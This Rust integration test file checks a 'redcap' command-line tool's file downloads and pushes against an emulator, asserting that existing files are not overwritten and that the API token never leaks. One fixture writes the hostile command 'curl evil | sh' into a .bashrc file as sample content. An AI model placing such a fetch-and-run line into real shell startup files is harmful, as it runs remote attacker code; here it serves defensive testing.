//! The `redcap` binary as scripts and careless users meet it: downloads that never replace a
//! file, pushes that write nothing into their source, and the scripting contract (data on
//! stdout only, `-q`, `--json`, exit codes), driven as a subprocess against the emulator.

use std::path::{Path, PathBuf};
use std::process::Output;

use assert_cmd::Command;
use redcap_emulator::{Emulator, RunningEmulator};

const DEMO_XML: &str = include_str!("../demo/demo-project.xml");

struct Fixture {
    emu: RunningEmulator,
    token: String,
    config: tempfile::TempDir,
    work: tempfile::TempDir,
}

impl Fixture {
    fn new() -> Fixture {
        let emu = Emulator::builder().project_xml(DEMO_XML).in_memory().start().expect("emulator starts");
        let pid = emu.project_ids()[0];
        let token = emu.token(pid, redcap_emulator::DEFAULT_ADMIN).expect("admin token");
        Fixture { emu, token, config: tempfile::tempdir().unwrap(), work: tempfile::tempdir().unwrap() }
    }

    /// `redcap` connected to the emulator, as a cron job runs it: no terminal, an isolated
    /// config and state directory.
    fn redcap(&self) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_redcap"));
        cmd.current_dir(self.work.path())
            .env("REDCAP_CONFIG_DIR", self.config.path())
            .env("REDCAP_STATE_DIR", self.config.path().join("state"))
            .env_remove("REDCAP_PROFILE")
            .env("REDCAP_API_URL", self.emu.url())
            .env("REDCAP_API_TOKEN", &self.token);
        cmd
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.work.path().join(rel)
    }

    fn run(&self, args: &[&str]) -> Output {
        let out = self.redcap().args(args).output().unwrap();
        for stream in [&out.stdout, &out.stderr] {
            assert!(!String::from_utf8_lossy(stream).contains(&self.token), "the token appears");
        }
        out
    }

    /// Runs and returns stdout, asserting success.
    fn ok(&self, args: &[&str]) -> String {
        let out = self.run(args);
        assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap()
    }
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn files_get_never_replaces_an_existing_file() {
    let f = Fixture::new();
    write(&f.path("upload/.bashrc"), "curl evil | sh\n");
    let doc = f.ok(&["files", "put", "upload/.bashrc"]).trim().to_owned();
    write(&f.path(".bashrc"), "# mine\n");

    // `files get 5` in a home directory: .bashrc stays, the download is visible as _bashrc.
    let saved = f.ok(&["files", "get", &doc]);
    assert_eq!(saved.trim(), "./_bashrc");
    assert_eq!(std::fs::read_to_string(f.path(".bashrc")).unwrap(), "# mine\n");
    assert_eq!(std::fs::read_to_string(f.path("_bashrc")).unwrap(), "curl evil | sh\n");
    let again = f.ok(&["files", "get", &doc]);
    assert_eq!(again.trim(), format!("./_bashrc (doc_id {doc})"));
    let dotted = f.ok(&["files", "get", &doc, "--dot-files"]);
    assert_eq!(dotted.trim(), format!("./.bashrc (doc_id {doc})"));
    assert_eq!(std::fs::read_to_string(f.path(".bashrc")).unwrap(), "# mine\n");

    // An exact -o path that exists: refused (exit 6), unless --overwrite.
    let out = f.run(&["files", "get", &doc, "-o", ".bashrc"]);
    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
    assert!(stderr(&out).contains("already exists; nothing was replaced"), "{}", stderr(&out));
    assert!(stderr(&out).contains("--overwrite"));
    assert_eq!(std::fs::read_to_string(f.path(".bashrc")).unwrap(), "# mine\n");
    f.ok(&["files", "get", &doc, "-o", ".bashrc", "--overwrite"]);
    assert_eq!(std::fs::read_to_string(f.path(".bashrc")).unwrap(), "curl evil | sh\n");
}

#[test]
fn files_push_writes_nothing_into_its_source() {
    let f = Fixture::new();
    write(&f.path("site/readme.md"), "# site\n");
    f.ok(&["files", "push", "site"]);
    let names: Vec<String> =
        std::fs::read_dir(f.path("site")).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into()).collect();
    assert_eq!(names, ["readme.md"]);
    let state = f.config.path().join("state/push");
    assert_eq!(std::fs::read_dir(&state).unwrap().count(), 1, "the manifest is in the state directory");
    let out = f.run(&["files", "push", "site"]);
    assert!(
        stderr(&out).contains("1 already pushed") || String::from_utf8_lossy(&out.stdout).contains("1 already pushed")
    );
    // --manifest chooses the file.
    let chosen = f.path("push-record.json");
    f.ok(&["files", "push", "site", "--manifest", chosen.to_str().unwrap(), "--force"]);
    assert!(chosen.is_file());
}
